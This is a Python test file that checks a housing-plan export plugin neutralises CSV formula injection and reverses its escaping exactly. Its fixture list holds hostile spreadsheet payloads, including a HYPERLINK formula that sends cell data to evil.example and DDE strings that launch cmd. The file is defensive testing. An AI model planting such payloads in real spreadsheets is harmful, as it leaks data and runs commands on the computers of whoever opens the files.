"""CSV formula injection (issue 7 §8): text cells a spreadsheet would run are neutralised as OWASP
describes, numbers stay numbers, and the escaping has an exact inverse (for `inspect`)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st

from lmvw_plugin.delivery.package import export
from lmvw_plugin.delivery.writers import escape_csv_text, unescape_csv_text
from lmvw_plugin.rules.table import FaseringTable, PlanTable
from lmvw_plugin.standard import load
from pkg_util import clean_plans

S = load()
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_escape_examples():
    for attack in ATTACKS:
        assert escape_csv_text(attack) == "'" + attack
    for harmless in ("Plan 1", "Leidsche Rijn", "", None, "'quoted", "a=b", "2+3"):
        assert escape_csv_text(harmless) == harmless
    assert escape_csv_text("'=1") == "''=1"          # already quoted by the user: one more, reversible


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab1 ")), max_size=8) | st.text(max_size=12))
def test_unescape_is_the_exact_inverse(value):
    escaped = escape_csv_text(value)
    assert unescape_csv_text(escaped) == value
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_delivery_csvs_are_escaped_and_numbers_stay_numbers(tmp_path):
    plans = clean_plans(len(ATTACKS), seed=6)
    for rec, attack in zip(plans.records, ATTACKS):
        rec["plannaam"] = attack
        rec["opmerkingen"] = attack
        if rec["planstatus"] in ("5A", "5B"):
            rec["planstatus"] = "3"
    plans.records[0]["plan_id_extern"] = "-12"
    t = PlanTable.from_records(S, plans.records, plans.geometries)
    f = FaseringTable.from_records(S, plans.fasering)
    result = export(t, f, str(tmp_path / "p.zip"), gemeente="GM0344", uitvraag="2026-najaar",
                    peildatum=dt.date(2026, 10, 1), profile="provincie_volledig", concept=True, standard=S)
    with zipfile.ZipFile(result.zip_path) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("woningbouwplannen.csv").decode("utf-8"), newline="")))
        fas = list(csv.DictReader(io.StringIO(zf.read("fasering.csv").decode("utf-8"), newline="")))
    assert sorted(r["plannaam"] for r in rows) == sorted("'" + a for a in ATTACKS)
    assert sorted(r["opmerkingen"] for r in rows) == sorted("'" + a for a in ATTACKS)
    assert "'-12" in [r["plan_id_extern"] for r in rows]
    for r in rows:
        for cell in r.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell
        assert unescape_csv_text(r["plannaam"]) in ATTACKS
        int(r["bruto_plancapaciteit"])                 # numbers are not quoted
        float(r["oppervlakte_m2"])
    assert sum(1 for r in rows if "\r" in r["plannaam"]) == 1          # a CR inside a cell does not split the row
    assert fas and all(int(r["aantal"]) >= 0 and r["jaar"][0].isdigit() for r in fas)
